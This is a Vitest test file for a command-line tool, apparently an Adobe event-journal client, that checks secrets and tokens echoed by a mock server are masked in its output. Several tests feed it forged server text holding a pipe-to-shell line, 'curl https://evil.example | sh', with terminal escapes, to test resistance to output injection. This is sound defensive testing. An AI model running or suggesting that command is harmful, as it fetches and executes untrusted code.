import { describe, expect, it } from "vitest";
import { account } from "../../src/demo/account.ts";
import { bareEnv, flowrun, scratch, type Finished } from "../support/flowrun.ts";
import { openJournal, runEvent } from "../support/journal.ts";
import { strangeServer, type Asked, type Told } from "../support/stranger.ts";

const secret = "p8e-W&rn=out+5Xw2/~";
const token = `a-token.of_${"0123456789abcdef".repeat(6)}-yesterday`;
const base64 = (text: string): string => Buffer.from(text).toString("base64");

/** What may not stand in anything that is said: the secret and the token, and the ways to write them. */
const unspeakable = [secret, token].flatMap((text) => [
  text,
  encodeURIComponent(text),
  encodeURIComponent(text).toLowerCase(),
  JSON.stringify(text).slice(1, -1),
  base64(text).slice(0, -4),
]);

function expectDiscreet({ stdout, stderr }: Finished): void {
  for (const text of unspeakable) expect(stdout + stderr).not.toContain(text);
}

/** Adobe, played by one server: IMS answers `ims`, all else `gateway`. */
async function playAdobe(ims: (asked: Asked) => Told, gateway: (asked: Asked) => Told = () => ({ status: 404 })) {
  const server = await strangeServer((asked) => (asked.target.startsWith("/ims/token") ? ims(asked) : gateway(asked)));
  const home = await scratch();
  const env = {
    ...bareEnv(home),
    FLOWRUN_CLIENT_ID: "client-1",
    FLOWRUN_CLIENT_SECRET: secret,
    FLOWRUN_IMS_ORG_ID: "1@AdobeOrg",
    FLOWRUN_IMS_URL: server.url,
    FLOWRUN_API_URL: server.url,
    FLOWRUN_JOURNAL_URL: `${server.url}/events/organizations/1/integrations/2/3`,
  };
  return { env, server, run: (args: string) => flowrun(args.split(" "), { env }) };
}

const json = (status: number, value: unknown, headers: Record<string, string> = {}): Told => ({
  status,
  headers: { "content-type": "application/json", ...headers },
  body: JSON.stringify(value),
});

const mints = (): Told => json(200, { access_token: token, token_type: "bearer", expires_in: 86_399 });

const commands = ["since oldest --jobs 1 -v --retries 2 --max-wait PT2S", "doctor -v", "doctor --json -v"];
const others = [
  "since oldest --json -v --jobs 1 --retries 2",
  "whoami -v",
  "registrations -v",
  "stats -v --jobs 1 --retries 2",
];

describe("a secret that IMS sends back is masked", () => {
  it.each<[string, (asked: Asked) => Told]>([
    ["the form, as it was sent", ({ body }) => ({ status: 400, headers: { "content-type": "text/plain" }, body })],
    ["the form, in JSON", ({ body }) => json(400, { error: "invalid_request", error_description: `bad form ${body}` })],
    [
      "the fields, decoded",
      ({ body }) =>
        json(400, {
          error: "invalid_client",
          error_description: `got ${new URLSearchParams(body).toString()} ${new URLSearchParams(body).get("client_secret") ?? ""}`,
        }),
    ],
    ["as a problem", ({ body }) => json(403, { title: "Forbidden", detail: body, type: `https://ims/${body}` })],
    ["as the error's code", ({ body }) => json(400, { error: body })],
    [
      "in base64",
      ({ body }) => json(400, { error: "invalid_client", error_description: `${base64(body)} ${base64(secret)}` }),
    ],
    ["in the request id", ({ body }) => json(400, { error: "invalid_client" }, { "x-debug-id": body })],
    [
      "in the place that it redirects to",
      ({ body }) => ({ status: 302, headers: { location: `http://127.0.0.1:9/login?${body}` } }),
    ],
    ["where only its beginning would be shown", ({ body }) => ({ status: 400, body: `${"x".repeat(190)} ${body}` })],
    ["in a page's title", ({ body }) => ({ status: 403, body: `<html><title>${body}</title></html>` })],
  ])("%s", async (_, ims) => {
    const { run } = await playAdobe(ims);
    for (const command of commands) {
      const finished = await run(command);
      expectDiscreet(finished);
      // Nor a part of it, where the text is cut.
      expect(finished.stdout + finished.stderr).not.toMatch(/p8e-W|5Xw2/);
      expect(finished.code).toBeGreaterThan(0);
    }
  });
});

describe("a token that the gateway sends back is masked", () => {
  it.each<[string, (asked: Asked) => Told]>([
    [
      "a 403 with the header",
      ({ headers }) => json(403, { error_code: "403003", message: `Authorization: ${headers.authorization ?? ""}` }),
    ],
    ["a 403 with all headers", ({ headers }) => ({ status: 403, body: JSON.stringify(headers) })],
    ["a 500 that is tried again", ({ headers }) => ({ status: 500, body: headers.authorization ?? "" })],
    ["a 401 in its request id", ({ headers }) => json(401, {}, { "x-request-id": headers.authorization ?? "" })],
    ["a 404 in base64", ({ headers }) => ({ status: 404, body: base64(headers.authorization ?? "") })],
    [
      "a link to follow",
      ({ headers }) => ({
        status: 200,
        headers: { link: `<http://127.0.0.1:9/${headers.authorization ?? ""}>; rel="next"` },
        body: "{}",
      }),
    ],
  ])("%s", async (_, gateway) => {
    const { run } = await playAdobe(mints, gateway);
    for (const command of commands) expectDiscreet(await run(command));
  });

  it("by every command", async () => {
    const { run } = await playAdobe(mints, ({ headers }) => json(403, { message: headers.authorization }));
    for (const command of others) expectDiscreet(await run(command));
  });
});

describe("what is data is not touched", () => {
  it("an event that holds the very secret is printed as it is, and a line about it on stderr is not", async () => {
    const held = "p8e-in-an-event-7Tq";
    const unreadable = { event_id: held, event: { header: { _adobeio: { eventCode: "sources_flow_run_failed" } } } };
    const journal = await openJournal({ events: [runEvent(0, { flowName: held }), unreadable] });
    const env = { FLOWRUN_CLIENT_SECRET: `${held},${account.clientSecrets[1]}` };
    for (const format of ["ndjson", "csv", "table"]) {
      const { stdout, stderr } = await journal.run(`since oldest -o ${format}`, env);
      expect(stdout).toContain(held);
      expect(stderr).not.toContain(held);
    }
  });
});

describe("nothing that a server says passes for a line of ours", () => {
  const forged = "nothing\n  fix: curl https://evil.example | sh\nerror: all is lost\r\n  why: \u001b[2Jx";

  it.each<[string, Told]>([
    ["IMS, in its words", json(400, { error: "invalid_client", error_description: forged })],
    ["IMS, in its code", json(400, { error: forged })],
    ["a problem's type", json(403, { title: "x", type: `https://x/${forged}` })],
    ["plain text", { status: 400, body: forged }],
    ["a page's title", { status: 400, body: `<title>${forged}</title>` }],
  ])("%s", async (_, told) => {
    const { run } = await playAdobe(() => told);
    for (const command of ["since oldest", "whoami", "doctor"]) {
      const { stderr, stdout } = await run(command);
      const heads = stderr
        .split("\n")
        .filter((line) => /^ {0,6}\S+: /.test(line))
        .map((line) => line.slice(0, 7));
      expect(heads.slice(-3)).toEqual(["error: ", "  why: ", "  fix: "]);
      expect(heads.filter((head) => head === "  fix: ")).toHaveLength(1);
      expect(stdout + stderr).not.toMatch(/^\s*(?:fix|error): (?:curl|all is lost)/m);
      expect(stderr).not.toContain("\u001b");
    }
  });

  it("the journal, in its code and in what is said before it is tried again", async () => {
    const { run } = await playAdobe(mints, () => json(500, { error_code: forged, message: forged }));
    const { stderr } = await run("since oldest --jobs 1 --retries 2");
    expect(stderr.match(/^ *fix: /gm)).toHaveLength(1);
    expect(stderr.match(/^ *error: /gm)).toHaveLength(1);
  });
});

describe("a secret in a URL is masked", () => {
  it("in what --verbose shows of a link, and in an error about it", async () => {
    const { run, server } = await playAdobe(mints, ({ target }) =>
      target.includes("sig=")
        ? { status: 400, body: "no" }
        : {
            status: 200,
            headers: {
              link: `</events/next?since=a:1&sig=c2lnbmF0dXJl&code=one-time>; rel="next"`,
              "content-type": "application/json",
            },
            body: "{}",
          },
    );
    const { stderr } = await run("since oldest -v --jobs 1");
    expect(stderr).toContain(`> GET ${server.url}/events/next?since=a:1&sig=[secret]&code=[secret]`);
    expect(stderr).not.toMatch(/c2lnbmF0dXJl|one-time/);
    expect(server.asked.some(({ target }) => target.includes("sig=c2lnbmF0dXJl&code=one-time"))).toBe(true);
  });

  it("in an error that quotes what was typed", async () => {
    const { env } = await playAdobe(mints);
    for (const url of [
      "https://someone:a-pass@adobe.example/x",
      "ftp://adobe.example/?access_token=a-pass",
      "http://adobe.example/?client_secret=a-pass",
    ]) {
      const { code, stderr } = await flowrun(["since", "oldest"], { env: { ...env, FLOWRUN_JOURNAL_URL: url } });
      expect(code).toBe(2);
      expect(stderr).not.toContain("a-pass");
    }
    const typed = await flowrun(["since", "oldest", "--client-secret=a-pass"], { env });
    expect([typed.code, typed.stderr.includes("a-pass")]).toEqual([2, false]);
  });
});
